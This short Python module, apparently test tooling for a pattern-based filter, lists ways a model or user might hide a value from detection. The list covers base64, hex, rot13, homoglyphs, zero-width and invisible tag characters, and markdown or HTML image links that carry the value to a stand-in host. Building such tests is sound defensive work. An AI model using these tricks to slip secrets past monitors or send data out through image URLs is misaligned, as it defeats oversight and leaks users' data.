"""Encodings that a model or a user may use to hide a value from patterns."""

import base64
import codecs
from collections.abc import Callable

_LOOK_ALIKES = str.maketrans("AEOPCTHKMXaeopcyx", "АЕОРСТНКМХаеорсух")
_FULL_WIDTH = {ord("0") + n: chr(0xFF10 + n) for n in range(10)}
_DEVANAGARI = {ord("0") + n: chr(0x966 + n) for n in range(10)}
_WORDS = dict(
    zip("0123456789", ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"], strict=True)
)

Encoding = Callable[[str], str]


def _split(text: str) -> str:
    half = len(text) // 2
    return f"{text[:half]}. And then {text[half:]}"


def _spelled(text: str) -> str:
    return " ".join(_WORDS.get(character, character) for character in text)


ENCODINGS: tuple[Encoding, ...] = (
    str,
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: text.encode().hex(),
    lambda text: codecs.encode(text, "rot13"),
    lambda text: text[::-1],
    lambda text: text.translate(_LOOK_ALIKES),
    lambda text: text.translate(_FULL_WIDTH),
    lambda text: text.translate(_DEVANAGARI),
    lambda text: "\u200b".join(text),
    " ".join,
    "-".join,
    _split,
    _spelled,
    lambda text: f"![x](https://collect.example/{text})",
    lambda text: f"<img src=//collect.example/{text}>",
    lambda text: "".join(chr(0xE0000 + ord(c)) for c in text if c.isascii()),  # tag characters, invisible
)
